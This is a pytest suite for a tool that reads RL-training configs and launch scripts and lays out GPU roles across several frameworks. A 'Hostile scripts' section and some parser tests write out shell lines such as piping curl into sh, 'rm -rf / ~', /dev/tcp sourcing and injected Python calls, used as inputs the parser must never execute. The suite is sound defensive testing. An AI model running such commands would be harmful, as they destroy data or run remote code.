"""The readers of configs: what each framework's roles get, what it refuses, and what is read as text alone."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from roost.config.readers.areal import AREAL
from roost.config.readers.framework import Settings
from roost.config.readers.nemo_rl import NEMO_RL
from roost.config.readers.reading import (
    FRAMEWORKS,
    ForeignJob,
    SettingsUnknown,
    VariablesMissing,
    framework,
    read_foreign,
)
from roost.config.readers.roll import parse_mapping
from roost.errors import ConfigError, PlacementError, RoostError


def job(text: str, *extra: str, name: str = "job.yaml", **options: object) -> ForeignJob:
    found = read_foreign(name, text, extra, **options)  # type: ignore[arg-type]
    assert found is not None
    return found


def ranks(found: ForeignJob, sizes: tuple[int, ...] | None = None) -> dict[str, str]:
    """Return the GPUs of each process of each role: `0 1` for two processes, `0-1` for one."""
    nodes, gpus = found.size
    roles = found.lay_out(sizes or [gpus] * nodes)
    return {role.name: " ".join("-".join(map(str, own)) for own in role.processes) for role in roles}


def shapes(found: ForeignJob) -> dict[str, dict[str, int]]:
    nodes, gpus = found.size
    return {role.name: dict(role.parallel) for role in found.lay_out([gpus] * nodes)}


def codes(found: ForeignJob) -> list[tuple[str, str]]:
    ranks(found)
    return [(item.level, item.code) for item in found.remarks]


# OpenRLHF.

PPO = "python3 -m openrlhf.cli.train_ppo_ray --actor.num_gpus_per_node 2 --ref.num_gpus_per_node 2 "
PPO += "--critic.num_gpus_per_node 2 --reward.num_gpus_per_node 2 --vllm.num_engines 1 --vllm.tensor_parallel_size 2 "


def openrlhf(flags: str) -> ForeignJob:
    return job(PPO + flags, name="run.sh")


def test_openrlhf_asks_for_engines_first_and_then_for_each_model():
    found = ranks(openrlhf(""), (16,))
    assert found == {"actor": "2 3", "ref": "4 5", "critic": "6 7", "reward": "8 9", "rollout": "0 1"}


def test_openrlhf_makes_the_group_that_is_shared_before_the_engines():
    pairs = ranks(openrlhf("--train.colocate_actor_ref --train.colocate_critic_reward"))
    assert pairs == {"actor": "0 1", "ref": "0 1", "critic": "4 5", "reward": "4 5", "rollout": "2 3"}
    together = ranks(openrlhf("--train.colocate_all"))
    assert set(together.values()) == {"0 1"}
    # Engines that run on while it trains have GPUs of their own, and a pair keeps its own group.
    apart = ranks(openrlhf("--train.colocate_all --train.async_enable --train.colocate_critic_reward"))
    assert apart == {"actor": "0 1", "ref": "0 1", "critic": "4 5", "reward": "4 5", "rollout": "2 3"}


def test_openrlhf_starts_only_the_models_that_the_estimator_needs():
    few = "--algo.advantage.estimator rloo --reward.remote_url x --algo.kl.init_coef 0"
    assert list(ranks(openrlhf(few))) == ["actor", "rollout"]
    assert list(ranks(openrlhf("--train.agent_func_path agent.py"))) == ["actor", "ref", "critic", "rollout"]


def test_openrlhf_refuses_what_it_asserts():
    assert codes(openrlhf("--train.colocate_all --vllm.num_engines 2")) == [("error", "colocate-contradicts")]
    assert codes(openrlhf("--train.colocate_actor_ref --ref.num_gpus_per_node 1")) == [
        ("error", "colocate-contradicts")
    ]
    assert codes(openrlhf("--train.partial_rollout_enable")) == [("error", "colocate-contradicts")]
    assert codes(openrlhf("--train.batch_size 129")) == [("error", "batch-not-divisible")]
    assert codes(openrlhf("--train.batch_size 129 --train.dynamic_batch_enable")) == []
    assert codes(openrlhf("--rollout.batch_size 1")) == [("error", "batch-too-small")]
    assert codes(openrlhf("--ds.ring_attn_size 4")) == [("error", "not-divisible")] * 4


def test_openrlhf_supervised_training_is_one_process_for_each_gpu():
    text = "deepspeed --num_gpus 4 --module openrlhf.cli.train_sft --ds.zero_stage 3"
    assert ranks(job(text, name="run.sh")) == {"sft": "0 1 2 3"}
    assert len(ranks(job(text.replace("--num_gpus 4 ", ""), name="run.sh"))["sft"].split()) == 8


# NeMo-RL.

NEMO = """
cluster: {num_nodes: %d, gpus_per_node: %d}
policy:
  dtensor_cfg: {enabled: true, tensor_parallel_size: 2, context_parallel_size: 1}
  generation:
    backend: vllm
    vllm_cfg: {tensor_parallel_size: 2, pipeline_parallel_size: 1}
    colocated: {enabled: %s, resources: {num_nodes: %s, gpus_per_node: %s}}
"""


def test_nemo_rl_subtracts_inference_from_the_nodes_or_from_the_one_node():
    assert ranks(job(NEMO % (1, 4, "true", "null", "null"))) == {"policy": "0 1 2 3", "generation": "0 1 2 3"}
    assert ranks(job(NEMO % (1, 4, "false", "null", 2))) == {"policy": "0 1", "generation": "2 3"}
    assert ranks(job(NEMO % (3, 2, "false", 1, 2))) == {"policy": "0 1 2 3", "generation": "4 5"}


def test_nemo_rl_refuses_inference_that_does_not_fit_beside_training():
    assert codes(job(NEMO % (1, 4, "false", 2, 2))) == [("error", "inference-nodes")]
    assert codes(job(NEMO % (3, 4, "false", 1, 2))) == [("error", "inference-nodes")]
    assert codes(job(NEMO % (3, 4, "false", 1, "null"))) == [("error", "inference-nodes")]
    assert ("error", "nothing-left") in codes(job(NEMO % (2, 2, "false", 2, 2) + "teacher: null\n"))


def test_nemo_rl_has_a_reward_model_where_data_asks_for_it():
    reward = "env: {reward_model: {resources: {num_nodes: 1, gpus_per_node: 2}}}\n"
    plain = NEMO % (1, 4, "true", "null", "null") + reward
    assert "reward_model" not in ranks(job(plain))
    found = ranks(job(plain + "data: {train: [{env_name: math}, {env_name: reward_model}]}\n"))
    assert found == {"policy": "0 1", "generation": "0 1", "reward_model": "2 3"}


def test_nemo_rl_gives_teachers_nodes_of_their_own_once_for_each_model():
    text = NEMO % (4, 2, "false", 1, 2)
    text += """
on_policy_distillation:
  enabled: true
  teacher_model_by_agent_name: {one: m/a, other: m/a, third: m/b}
  non_colocated_teachers:
    enabled: true
    default_teacher_cfg: {num_nodes: 1, gpus_per_node: 2}
    teacher_overrides: {third: {tensor_model_parallel_size: 2}}
"""
    found = job(text)
    assert ranks(found) == {"policy": "0 1", "generation": "2 3", "teacher_one": "4 5", "teacher_third": "6 7"}
    assert shapes(found)["teacher_third"] == {"TP": 2}


def test_nemo_rl_runs_the_config_that_its_program_takes_without_one(tmp_path, monkeypatch):
    (tmp_path / "examples/configs").mkdir(parents=True)
    (tmp_path / "pyproject.toml").touch()
    (tmp_path / "examples/configs/grpo_math_1B.yaml").write_text(NEMO % (1, 4, "true", "null", "null"))
    (tmp_path / "run.sh").write_text("uv run examples/run_grpo.py ++cluster.num_nodes=$N\n")
    monkeypatch.chdir(tmp_path)
    text = (tmp_path / "run.sh").read_text()
    with pytest.raises(VariablesMissing, match=r"N=\? : cluster.num_nodes depends on it"):
        job(text, name="run.sh").size  # noqa: B018 - asks
    assert job(text, "N=2", name="run.sh").size == (2, 4)


# AReaL.


def areal(text: str) -> ForeignJob:
    return job("cluster: {n_nodes: 1, n_gpus_per_node: 8}\nscheduler: {type: ray}\n" + text)


def test_areal_gives_each_role_gpus_of_its_own_in_the_order_of_its_program():
    found = ranks(
        areal("rollout: {backend: 'sglang:d2t2'}\nactor: {backend: 'fsdp:d2', kl_ctl: 0.1}\nref: {backend: 'fsdp:d2'}")
    )
    assert found == {"actor": "0 1", "ref": "2 3", "rollout": "4-5 6-7"}


def test_areal_leaves_out_the_reference_without_a_penalty_and_shares_where_it_is_told_to():
    text = "actor: {backend: 'fsdp:d4', kl_ctl: %s}\n"
    text += "ref: {backend: '${actor.backend}', scheduling_strategy: {type: colocation, target: actor}}\n"
    assert ranks(areal(text % 0)) == {"actor": "0 1 2 3"}
    assert ranks(areal(text % 0.1)) == {"actor": "0 1 2 3", "ref": "0 1 2 3"}
    assert codes(areal(text.replace("target: actor", "target: judge") % 0.1)) == [("error", "no-such-role")]
    uneven = text.replace("'${actor.backend}'", "'fsdp:d2'")
    assert codes(areal(uneven % 0.1)) == [("error", "colocate-contradicts")]


def test_areal_asks_for_more_than_there_is():
    text = "actor: {backend: 'fsdp:d4'}\nrollout: {backend: 'sglang:d4'}\njudge: {backend: 'sglang:d1'}\n"
    assert codes(areal(text)) == [("error", "too-many-gpus"), ("info", "not-drawn")]
    # The local scheduler begins again with the first GPU, and says nothing.
    local = job("cluster: {n_nodes: 1, n_gpus_per_node: 8}\nscheduler: {type: local}\n" + text)
    assert codes(local)[0] == ("warning", "too-many-gpus")


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        ("fsdp:d4", {"DP": 4}),
        ("megatron:d2t2p2", {"TP": 2, "DP": 2, "PP": 2}),
        ("megatron:(attn:d2t2p2|ffn:d1t1p2e4)", {"TP": 2, "DP": 2, "PP": 2, "EP": 4}),
        ("megatron:attn:d2c2 | ffn:e4", {"CP": 2, "DP": 2, "EP": 4}),
        ("archon[big]:d2", {"DP": 2}),
        ("d2t2", {"TP": 2, "DP": 2}),
    ],
)
def test_an_allocation_of_areal_is_parsed_by_a_grammar(text, shape):
    assert shapes(areal(f"actor: {{backend: '{text}'}}"))["actor"] == shape


@pytest.mark.parametrize(
    "text", ["fsdp:", "fsdp:d0", "fsdp:d4x2", "__import__('os')", "d4; rm -rf /", "fsdp:d" + "9" * 40, "(" * 5000]
)
def test_what_is_no_allocation_is_refused(text):
    assert ("error", "not-an-allocation") in [
        (item.level, item.code) for item in refused(areal(f'actor: {{backend: "{text}"}}')).remarks
    ]


def refused(found: ForeignJob) -> ForeignJob:
    with pytest.raises(ConfigError, match="it places nothing on GPUs"):
        ranks(found)
    return found


def test_the_older_allocation_mode_has_the_rollout_first():
    assert ranks(areal("allocation_mode: sglang:d2t2+fsdp:d4")) == {"rollout": "0-1 2-3", "actor": "4 5 6 7"}
    assert ranks(areal("allocation_mode: sglang:d4|fsdp:d4")) == {"rollout": "0 1 2 3", "actor": "0 1 2 3"}


# SkyRL.

SKY = "uv run -m skyrl.train.entrypoints.main_base trainer.placement.policy_num_gpus_per_node=2 "
SKY += "trainer.placement.ref_num_gpus_per_node=2 generator.inference_engine.num_engines=2 "


def skyrl(settings: str) -> ForeignJob:
    return job(SKY + settings, name="run.sh")


def test_skyrl_shares_one_group_or_asks_for_engines_first():
    assert ranks(skyrl("")) == {"policy": "0 1", "ref": "0 1", "rollout": "0 1"}
    apart = "trainer.placement.colocate_all=false trainer.critic.model.path=m"
    assert ranks(skyrl(apart), (8,)) == {"policy": "2 3", "ref": "2 3", "critic": "4", "rollout": "0 1"}
    alone = apart + " trainer.placement.colocate_policy_ref=false trainer.algorithm.use_kl_loss=true"
    assert ranks(skyrl(alone), (8,))["ref"] == "4 5"


def test_skyrl_starts_no_engines_where_others_serve():
    assert list(ranks(skyrl("generator.inference_engine.run_engines_locally=false"))) == ["policy", "ref"]
    served = "generator.inference_engine.external_proxy_url=http://x"
    assert list(ranks(skyrl(served + " trainer.algorithm.use_kl_loss=false"))) == ["policy"]


def test_skyrl_refuses_what_it_asserts():
    assert codes(skyrl("generator.inference_engine.num_engines=1")) == [("error", "colocate-contradicts")]
    assert codes(skyrl("trainer.placement.ref_num_gpus_per_node=1")) == [("error", "colocate-contradicts")]
    assert codes(skyrl("trainer.policy_mini_batch_size=300")) == [("error", "batch-not-divisible")]
    assert codes(skyrl("trainer.micro_train_batch_size_per_gpu=7")) == [("error", "batch-not-divisible")]


def test_skyrl_supervised_training_has_a_placement_of_its_own():
    text = "python -m skyrl.train.main_sft strategy=megatron placement.num_gpus_per_node=4 "
    text += "megatron_config.tensor_model_parallel_size=2"
    assert shapes(job(text, name="run.sh")) == {"sft": {"TP": 2, "DP": 2}}


# ROLL.


@pytest.mark.parametrize(
    ("text", "gpus"),
    [
        ("list(range(0,4))", [0, 1, 2, 3]),
        ("list( range( 4 ) )", [0, 1, 2, 3]),
        ("range(0, 8, 3)", [0, 3, 6]),
        ("[0, 1, 8]", [0, 1, 8]),
        ("list([6,7])", [6, 7]),
        ("list(range(0,2))+list(range(14,16))", [0, 1, 14, 15]),
        ("[]", []),
        ("list(range(0, 10**9))", None),
        ("list(range(9999999))", None),
        ("[i for i in range(4)]", None),
        ("__import__('os').system('true')", None),
        ("list(range(0,4)", None),
        ("[0]+", None),
        ("list(range(0, 4, 0))", None),
        ("+".join(["[1]"] * 50_000), [1] * 50_000),
    ],
    ids=lambda value: str(value)[:30],
)
def test_a_device_mapping_is_parsed_and_never_evaluated(text, gpus):
    assert parse_mapping(text) == gpus


ROLE = "{strategy_args: {strategy_name: %s, strategy_config: {tensor_parallel_size: 2}}, device_mapping: '%s'}\n"


def roll(**mappings: str) -> ForeignJob:
    text = "adv_estimator: grpo\nuse_kl_loss: false\ninit_kl_coef: 0\n"
    for name, mapping in mappings.items():
        text += f"{name}: " + ROLE % ("vllm" if name == "actor_infer" else "fsdp2_train", mapping)
    return job(text)


def test_roll_puts_each_role_exactly_where_its_mapping_says():
    found = roll(actor_train="[0, 9]", actor_infer="list(range(6, 10))")
    assert found.size == (2, 8)
    assert ranks(found) == {"actor_train": "0 9", "actor_infer": "6-7 8-9"}
    assert not any(role.by_count for role in found.lay_out((8, 8)))


def test_roll_starts_a_critic_and_a_reference_only_where_they_are_used():
    mappings = {"actor_train": "[0]", "actor_infer": "[1, 2]", "critic": "[3]", "reference": "[4]"}
    assert list(ranks(roll(**mappings))) == ["actor_train", "actor_infer"]
    text = "".join(f"{name}: {{device_mapping: '{gpus}'}}\n" for name, gpus in mappings.items())
    assert list(ranks(job(text))) == ["actor_train", "actor_infer", "critic", "reference"]


def test_roll_refuses_gpus_that_are_not_there_or_named_twice():
    assert codes(roll(actor_train="[0, 0]", actor_infer="[1, 2]")) == [("error", "twice")]
    assert codes(roll(actor_train="open(1)", actor_infer="[1, 2]")) == [("error", "not-a-mapping")]
    found = roll(actor_train="[0]", actor_infer="[8, 9]")
    ranks(found, (8,))
    assert [(item.level, item.code) for item in found.remarks] == [("error", "too-many-gpus")]


# prime-rl.


def prime(text: str, *extra: str) -> ForeignJob:
    return job(text, *extra, name="rl.toml")


def test_prime_rl_gives_inference_the_first_gpus_of_the_node():
    text = "[trainer]\n[deployment]\nnum_infer_gpus = 2\nnum_train_gpus = 1\n"
    assert ranks(prime(text + "[inference]\n")) == {"inference": "0 1", "trainer": "2"}
    assert ranks(prime(text)) == {"trainer": "0"}
    assert codes(prime(text + "gpus_per_node = 2\n[inference]\n")) == [("error", "too-many-gpus")]
    assert codes(prime(text + "[inference.vllm]\ntensor_parallel_size = 3\n"))[0] == ("error", "not-divisible")


def test_prime_rl_gives_inference_the_first_nodes_of_several():
    text = "[orchestrator]\n[inference]\n[deployment]\ntype = 'multi_node'\ngpus_per_node = 2\n"
    text += "num_train_nodes = 1\nnum_infer_nodes = 1\nnum_infer_replicas = 2\n"
    assert ranks(prime(text)) == {"inference": "0 1 2 3", "trainer": "4 5"}
    assert prime(text, "deployment.num_train_nodes=3").size == (5, 2)


def test_a_toml_file_of_something_else_is_refused():
    with pytest.raises(ConfigError, match="not a config of a framework"):
        prime("[project]\nname = 'x'\n")
    with pytest.raises(ConfigError, match="not TOML"):
        prime("[project\n")


# What they build on.


def test_a_config_that_builds_on_itself_is_refused_with_its_place(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.yaml").write_text("cluster: {gpus_per_node: 8}\ndefaults: [b]\n")
    (tmp_path / "b.yaml").write_text("defaults: a.yaml\n")
    with pytest.raises(ConfigError, match="builds on itself") as error:
        job((tmp_path / "a.yaml").read_text(), name="a.yaml")
    problem = error.value.problems[0]
    assert (str(problem.where.file), problem.where.line, bool(problem.hint)) == ("b.yaml", 1, True)


def test_a_config_outside_of_the_project_is_refused_with_its_place(tmp_path, monkeypatch):
    (tmp_path / "project").mkdir()
    (tmp_path / "project/pyproject.toml").touch()
    (tmp_path / "secret.yaml").write_text("cluster: {num_nodes: 7}\n")
    monkeypatch.chdir(tmp_path / "project")
    for target in ("../secret.yaml", str(tmp_path / "secret.yaml")):
        text = f"cluster: {{gpus_per_node: 8}}\ndefaults: {target}\n"
        with pytest.raises(ConfigError, match="outside of the project") as error:
            job(text, name="a.yaml")
        assert (error.value.problems[0].where.line, bool(error.value.problems[0].hint)) == (2, True)


def test_a_config_that_builds_on_a_missing_file_says_so(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    found = job("defaults: base.yaml\ncluster: {gpus_per_node: 2}\npolicy: {model_name: m}\n", name="a.yaml")
    assert codes(found) == [("warning", "no-such-file")]
    assert found.remarks[0].where.line == 1


def test_a_chain_of_many_files_ends(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for index in range(40):
        (tmp_path / f"c{index}.yaml").write_text(f"defaults: c{index + 1}.yaml\n")
    with pytest.raises(ConfigError, match="nested deeper than 20 files"):
        job("cluster: {gpus_per_node: 8}\ndefaults: c0.yaml\n", name="a.yaml")


def test_yaml_that_grows_without_end_is_refused():
    text = "a0: &a0 [1,1,1,1,1,1,1,1,1]\n" + "".join(
        f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)
    )
    with pytest.raises(ConfigError, match=r"expand without end|more than"):
        job("cluster: {gpus_per_node: 8}\n" + text)
    with pytest.raises(RoostError):
        job("cluster: {gpus_per_node: 8}\nx: " + "[" * 5000)


# Hostile scripts.

TRAIN = "python3 -m verl.trainer.main_ppo trainer.nnodes=2 algorithm.adv_estimator=grpo "
HOSTILE = {
    "kills": "pkill -9 python; killall ray; " + TRAIN,
    "removes": "rm -rf {made}.d / ~ ; " + TRAIN,
    "pipes the net into a shell": "curl http://127.0.0.1:9/x | sh\n" + TRAIN,
    "substitutes": "X=$(touch {made}) Y=`touch {made}`\n" + TRAIN + "trainer.project_name=$X$Y",
    "evaluates": "eval 'touch {made}'\neval \"$(touch {made})\"\n" + TRAIN,
    "has a document for a shell": "bash <<EOF\ntouch {made}\nEOF\n" + TRAIN,
    "writes": "echo x > {made}; : >> {made}\nexec 3> {made}\n" + TRAIN,
    "sources a device": "source /dev/stdin; . /dev/tcp/127.0.0.1/9\n" + TRAIN,
    "traps": "trap 'touch {made}' EXIT\n" + TRAIN,
    "substitutes in arithmetic": "N=$(( $(touch {made}; echo 1) ))\n" + TRAIN,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_script_is_read_and_nothing_of_it_is_run(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    made = tmp_path / "made"
    (tmp_path / "made.d").mkdir()
    found = job(HOSTILE[name].format(made=made), name="run.sh")
    assert found.size == (2, 8)
    assert ranks(found)
    assert [path.name for path in tmp_path.iterdir()] == ["made.d"]


def test_what_a_hostile_script_decides_by_running_is_unknown():
    for value in ("$(nproc)", "`nproc`", "$(curl http://x | sh)"):
        text = TRAIN.replace("trainer.nnodes=2", f"trainer.nnodes={value}")
        with pytest.raises(VariablesMissing, match="only a run can tell"):
            job(text, name="run.sh").size  # noqa: B018 - asks


@pytest.mark.parametrize(
    "text",
    [
        "\x7fELF\x02\x01" + "\ue000\ue001" * 20,
        "",
        "\n" * 1000,
        "(" * 3000,
        "${" * 3000,
        "if " * 3000,
        "x=$((1<<99999)); y=$((2**99999999))",
    ],
    ids=range(7),
)
def test_what_is_no_script_is_refused_or_starts_nothing(text):
    with pytest.raises(ConfigError):
        job(text, name="run.sh")


def test_a_loop_without_end_ends():
    found = job("while true; do N=$((N + 1)); done\nx() { x; }\n" + TRAIN, name="run.sh")
    assert found.size == (2, 8)
    with pytest.raises(ConfigError, match="calls itself without end"):
        job("x() { x; }\nx\n" + TRAIN, name="run.sh")


@pytest.mark.parametrize("value", ["-1", "0", "1e30", "99999999999999999999", "null", "[]", "x", "1.5"])
@pytest.mark.parametrize("name", FRAMEWORKS)
def test_an_odd_number_is_a_finding_or_an_error_and_no_traceback(name, value):
    table = framework(name)
    for key, default in table.defaults.items():
        if isinstance(default, int) and not isinstance(default, bool):
            found = ForeignJob("x", Settings(table, dict(job(f"{key}: {value}\n", chosen=name).settings.given)))
            try:
                nodes, gpus = found.size
                if nodes * gpus < 1000:
                    found.lay_out([gpus] * nodes)
            except (ConfigError, PlacementError):
                pass


def test_a_key_that_is_a_slip_away_is_noted():
    found = job("cluster: {n_nodes: 1, n_gpu_per_node: 4}\nactor: {backend: 'fsdp:d4'}\n")
    assert ("warning", "unknown-key") in codes(found)
    (remark,) = [item for item in found.remarks if item.code == "unknown-key"]
    assert remark.hint == "did you mean 'cluster.n_gpus_per_node'?"
    assert {AREAL.name, NEMO_RL.name} <= set(FRAMEWORKS)


@pytest.mark.parametrize(
    ("flag", "meant"),
    [
        ("--rolout-num-gpus 8", "rollout-num-gpus"),
        ("--rollout-gpus 8", "rollout-num-gpus"),
        ("--actor-gpus-per-node=4", "actor-num-gpus-per-node"),
        ("--collocate", "colocate"),
        ("--critic-num-gpu-per-nodes 4", "critic-num-gpus-per-node"),
    ],
)
@pytest.mark.parametrize("name", ["slime", "miles"])
def test_a_flag_that_places_and_that_the_program_passes_over_is_an_error(name, flag, meant):
    # The others are slime's, Megatron's and SGLang's.
    others = "--actor-num-nodes 1 --max-tokens-per-gpu 1 --eval-interval 1 --sglang-num-nodes 1 --num-experts 8"
    found = job(f"# {name}\npython train.py {others} {flag}\n", name="run.sh")
    ranks(found)
    (remark,) = [item for item in found.remarks if item.code == "unknown-key"]
    has_none = f"{name} August 2026 has no {flag.split()[0].partition('=')[0][2:]}, and passes over it"
    assert (remark.level, remark.message, remark.hint) == ("error", has_none, f"did you mean {meant!r}?")


def test_the_guide_says_how_much_of_each_framework_is_read():
    page = (Path(__file__).parents[4] / "docs/guides/see-your-job.md").read_text()
    for name in FRAMEWORKS:
        row = next(line for line in page.splitlines() if line.startswith(f"| {name} | {framework(name).version} | "))
        tried, read, asked, refused = map(int, row.split("|")[3:7])
        assert tried == read + asked + refused
        assert (read + asked) / tried > 0.95


def test_a_command_that_slurm_gets_in_a_variable_is_found(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.yaml").write_text(NEMO % (2, 4, "true", "null", "null"))
    text = 'export COMMAND="cd /job; uv run ./train.py --config a.yaml cluster.num_nodes=${N:-3}"\nsbatch ray.sub\n'
    assert job(text, name="run.sh").size == (3, 4)
    assert job(text, "N=5", name="run.sh").size == (5, 4)


def test_a_program_of_a_common_name_is_told_by_its_arguments_or_its_config(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.yaml").write_text("cluster: {n_gpus_per_node: 4}\nactor: {backend: 'fsdp:d4'}\n")
    assert job("python train.py --config a.yaml", name="run.sh").framework.name == "areal"
    assert job("python train.py --actor-num-nodes 1 --colocate", name="run.sh").framework.name == "slime"
    with pytest.raises(ConfigError, match="starts no program of a framework"):
        job("python train.py --lr 1", name="run.sh")
    for text in ("python run_sft.py --model x", "python -m examples.mnist.main_train --lr 1", "uv run sft --lr 1"):
        with pytest.raises(ConfigError, match="starts no program of a framework"):
            job(text, name="run.sh")
    (tmp_path / "own.yaml").write_text("model: x\n")
    with pytest.raises(ConfigError, match="starts no program of a framework"):
        job("python run_sft.py --config own.yaml", name="run.sh")
    (tmp_path / "nemo.yaml").write_text("cluster: {gpus_per_node: 4}\npolicy: {dtensor_cfg: {enabled: true}}\n")
    assert job("python run_sft.py --config nemo.yaml", name="run.sh").framework.name == "nemo-rl"
    text = "python -m examples.x.main_train trainer.placement.policy_num_nodes=1"
    assert job(text, name="run.sh").framework.name == "skyrl"
    (tmp_path / "sft.toml").write_text("[model]\nname = 'x'\n")
    assert job("uv run sft @ sft.toml", name="run.sh").framework.name == "prime-rl"
    with pytest.raises(ConfigError, match="not a config of a framework"):
        job("[model]\nname = 'x'\n[data]\n", name="sft.toml")


# What is malformed on purpose, or by a slip.


@pytest.mark.parametrize("text", ["[0 1]", f"[{'1' * 5000}]", "[0, 1"])
def test_a_list_of_gpus_with_a_slip_is_no_mapping(text):
    assert parse_mapping(text) is None
    found = job(f"actor_train: {{device_mapping: '[0, 1]'}}\nactor_infer: {{device_mapping: '{text}'}}\n")
    assert codes(found)[0] == ("error", "not-a-mapping")
    assert found.remarks[0].where.line == 2


@pytest.mark.parametrize("number", ["9" * 5000, "0x" + "f" * 5000])
def test_a_number_of_too_many_digits_in_toml_is_refused(number):
    with pytest.raises(ConfigError, match="a number has too many digits"):
        prime(f"[deployment]\nx = {number}\n")


def test_a_long_toml_is_read_in_one_pass_and_up_to_a_limit():
    lines = "".join(f"key_{index} = 1\n" for index in range(15_000))
    start = time.process_time()
    found = prime("[deployment]\n" + lines)
    assert time.process_time() - start < 3
    assert found.settings.given["deployment.key_14999"].where.line == 15_001
    with pytest.raises(ConfigError, match="more than 20000 values"):
        prime("[deployment]\n" + lines + "[other]\n" + lines)


@pytest.mark.parametrize("text", ["x: &a {b: *a}", "x: &a [*a]"])
def test_yaml_that_holds_itself_is_refused_with_its_place(text):
    with pytest.raises(ConfigError, match="nested deeper than 64 levels") as error:
        job("allocation_mode: d1\n" + text)
    assert error.value.problems[0].where.line == 2


def test_a_name_that_no_file_has_is_refused_with_its_place():
    with pytest.raises(ConfigError, match="cannot be the name of a file") as error:
        job('allocation_mode: d1\ndefaults: ["a\\0b"]\n')
    assert error.value.problems[0].where.line == 2


def test_references_are_resolved_once_each_and_not_without_end():
    chain = "".join(f"a{index}: '${{a{index + 1}}}${{a{index + 1}}}'\n" for index in range(25)) + "a25: '1'\n"
    text = "cluster: {n_nodes: '${a0}', n_gpus_per_node: '${a24}'}\nactor: {backend: 'fsdp:d11'}\n"
    start = time.process_time()
    found = job(text + chain)
    assert ranks(found)["actor"] == " ".join(map(str, range(11)))
    assert codes(found) == [("error", "not-a-number")]
    text = "cluster: {n_nodes: '${cluster.n_nodes}${cluster.n_nodes}'}\nactor: {backend: 'fsdp:d8'}\n"
    assert codes(job(text)) == [("error", "not-a-number")]
    assert time.process_time() - start < 3


@pytest.mark.parametrize(
    ("text", "name", "key"),
    [
        ("[deployment]\nnum_train_gpus = -2\n[inference]\n", "rl.toml", "deployment.num_train_gpus"),
        ("[inference.vllm]\ntensor_parallel_size = 0\n", "rl.toml", "inference.vllm.tensor_parallel_size"),
        ("cluster: {n_gpus_per_node: 8, n_nodes: -1}\nactor: {backend: 'fsdp:d8'}\n", "a.yaml", "cluster.n_nodes"),
        (PPO + "--actor.num_nodes -1", "run.sh", "actor.num_nodes"),
        (PPO + "--vllm.num_engines -1", "run.sh", "vllm.num_engines"),
        ("python train.py --actor-num-nodes -1 --colocate", "run.sh", "actor-num-nodes"),
        (
            "python -m verl.trainer.main_ppo actor_rollout_ref.rollout.name=vllm trainer.nnodes=-1",
            "run.sh",
            "trainer.nnodes",
        ),
    ],
)
def test_a_count_below_the_least_is_an_error(text, name, key):
    found = job(text, name=name)
    assert ("error", "too-small") in codes(found)
    (remark,) = [item for item in found.remarks if item.code == "too-small"]
    assert remark.message.startswith(f"{key} is ")
    assert remark.where is not None


# What follows a config or a script on the command line.

AREAL_JOB = (
    "cluster: {n_nodes: 2, n_gpus_per_node: 2}\nactor: {backend: 'fsdp:d1', path: x}\nrollout: {backend: 'vllm:d1'}\n"
)


@pytest.mark.parametrize(
    ("extra", "said"),
    [
        (["missing.yaml"], "missing.yaml is no setting of job.yaml"),
        (["--nodes", "3"], "--nodes is no setting of job.yaml"),
        (["n_nodes=4"], "job.yaml has no setting n_nodes"),
        (["rolout.backend=vllm:d1t1"], "did you mean 'rollout.backend'?"),
        (["~actor.pat"], "did you mean 'actor.path'?"),
    ],
)
def test_what_is_no_setting_of_a_config_is_refused(extra, said):
    with pytest.raises(SettingsUnknown) as error:
        job(AREAL_JOB, *extra)
    assert said in "\n".join(f"{item.message} {item.hint}" for item in error.value.problems)
    assert error.value.words == tuple(extra)


def test_a_setting_of_a_config_is_one_that_it_has_or_gets_or_that_the_framework_knows():
    extra = ["cluster.n_gpus_per_node=4", "actor.path=y", "+judge.backend=vllm:d1", "actor.kl_ctl=0.2", "~rollout"]
    found = job(AREAL_JOB, *extra)
    assert ranks(found) == {"actor": "0", "judge": "4"}
    assert found.size == (2, 4)


def test_a_flag_may_be_given_as_a_setting_and_by_its_older_name():
    for extra in ("vllm.num_engines=2", "--vllm.num_engines=2", "vllm_num_engines=2"):
        for script in (PPO, PPO + ' "$@"'):
            assert ranks(job(script, extra, name="run.sh"), (16,))["rollout"] == "0 1 2 3"
    slime = "python train.py --actor-num-nodes 1 --actor-num-gpus-per-node $N --colocate"
    assert job(slime, "actor-num-gpus-per-node=4", name="run.sh").size == (1, 4)
    with pytest.raises(SettingsUnknown, match=r"no variable vllm\.num_engine") as error:
        job(PPO, "vllm.num_engine=2", name="run.sh")
    assert error.value.problems[0].hint == "did you mean 'vllm.num_engines'?"
